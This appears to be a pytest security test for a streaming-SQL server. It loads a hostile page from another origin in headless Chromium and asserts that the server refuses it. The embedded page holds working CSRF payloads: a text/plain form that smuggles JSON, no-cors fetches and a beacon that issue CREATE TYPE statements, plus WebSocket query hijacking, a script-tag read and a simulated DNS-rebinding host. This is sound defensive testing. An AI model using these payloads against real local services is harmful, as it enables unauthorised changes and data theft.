"""A page of another origin, in a true browser, against a server without configuration."""

from __future__ import annotations

import http.server
import subprocess
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from millstream.model.clock import now_ms
from millstream.model.settings import EngineSettings
from millstream.service.execution import open_engine
from millstream_server.auth.audit import Audit
from millstream_server.bootstrap.config import load_config
from millstream_server.bootstrap.wiring import gate
from tests.clients.places import REQUIRED, browser
from tests.patience import PATIENCE_S, until
from tests.served import Served, served

BROWSER = browser()
NAME = "evil.example"
PAGE = """<!doctype html><title>page</title><pre id=out></pre>
<iframe name=frame></iframe>
<form id=form method=post target=frame enctype="text/plain" action="URL/ksql">
<input name='{"ksql":"CREATE TYPE stolen_by_form AS INT;","x":"' value='"}'></form>
<script>
const url = "URL", found = {};
const change = (name) => JSON.stringify({ksql: `CREATE TYPE ${name} AS INT;`});
const asks = {
  read: () => fetch(url + "/info").then(r => r.text()),
  blind: () => fetch(url + "/info", {mode: "no-cors"}).then(r => r.text()),
  simple: () => fetch(url + "/ksql", {method: "POST", body: change("stolen_by_fetch"),
    headers: {"content-type": "text/plain"}}).then(r => r.text()),
  unseen: () => fetch(url + "/ksql", {method: "POST", mode: "no-cors",
    body: change("stolen_unseen")}).then(r => r.text()),
  asked: () => fetch(url + "/ksql", {method: "POST", body: change("stolen_after_asking"),
    headers: {"content-type": "application/json"}}).then(r => r.text()),
  beacon: async () => String(navigator.sendBeacon(url + "/ksql", change("stolen_by_beacon"))),
  socket: () => new Promise(done => {
    const query = encodeURIComponent(JSON.stringify({sql: "SELECT * FROM canary EMIT CHANGES;"}));
    const socket = new WebSocket(url.replace("http", "ws") + "/ws/query?request=" + query);
    socket.onopen = () => done("OPENED");
    socket.onmessage = (event) => done("READ " + event.data);
    socket.onerror = () => done("refused");
  }),
  script: () => new Promise(done => {
    const script = document.createElement("script");
    script.src = url + "/info";
    script.onload = () => done("LOADED");
    script.onerror = () => done("refused");
    document.head.append(script);
  }),
};
(async () => {
  document.getElementById("form").submit();
  for (const [name, ask] of Object.entries(asks)) {
    try { found[name] = await ask(); } catch (error) { found[name] = "refused"; }
  }
  document.getElementById("out").textContent = JSON.stringify(found);
  await fetch("/done", {method: "POST", body: JSON.stringify(found)});
})();
</script>"""


@pytest.fixture
def door() -> Iterator[Served]:
    engine = open_engine(":memory:", EngineSettings(threads=1), now_ms)
    engine.start()
    with served(engine, guard=gate(load_config(), engine, Audit(print, time.time))) as found:
        yield found
    engine.close()


def browse(url: str, folder: Path, *more: str) -> subprocess.Popen[str]:
    assert BROWSER is not None
    return subprocess.Popen(
        [
            *(BROWSER, "--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run"),
            *(*more, f"--user-data-dir={folder}"),
            *(f"--host-resolver-rules=MAP {NAME} 127.0.0.1", url),
        ],
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
        text=True,
    )


@pytest.fixture
def page(door: Served, tmp_path: Path) -> Iterator[tuple[str, list[str]]]:
    """Where the page is, and what it sends when it has tried everything."""
    sent: list[str] = []

    class Site(http.server.BaseHTTPRequestHandler):
        target = door.url

        def do_GET(self) -> None:
            body = PAGE.replace("URL", self.target).encode()
            self.send_response(200)
            self.send_header("content-type", "text/html")
            self.send_header("content-length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def do_POST(self) -> None:
            sent.append(self.rfile.read(int(self.headers["content-length"])).decode())
            self.send_response(204)
            self.end_headers()

    site = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Site)
    thread = threading.Thread(target=site.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{site.server_port}/", sent
    site.shutdown()
    site.server_close()


@pytest.mark.skipif(BROWSER is None and not REQUIRED, reason="there is no chromium")
def test_a_page_of_another_origin_reads_and_changes_nothing(
    door: Served, page: tuple[str, list[str]], tmp_path: Path
) -> None:
    url, sent = page
    with browse(url, tmp_path) as browser:
        until(lambda: bool(sent))
        browser.kill()
    assert not [word for word in ("KsqlServerInfo", "OPENED", "READ", "LOADED") if word in sent[0]]
    assert not [name for name in door.server.engine.catalog.types if "STOLEN" in name]


@pytest.mark.skipif(BROWSER is None and not REQUIRED, reason="there is no chromium")
def test_a_name_that_leads_here_is_not_answered_to(door: Served, tmp_path: Path) -> None:
    """As after DNS rebinding: for the browser, page and server are of one origin."""
    port = urlsplit(door.url).port
    shown = {}
    for number, host in enumerate((NAME, "localhost")):
        folder = tmp_path / str(number)
        with browse(f"http://{host}:{port}/info", folder, "--dump-dom") as browser:
            shown[host], _ = browser.communicate(timeout=PATIENCE_S)
    assert "KsqlServerInfo" in shown["localhost"]
    assert "KsqlServerInfo" not in shown[NAME] and "42100" in shown[NAME]
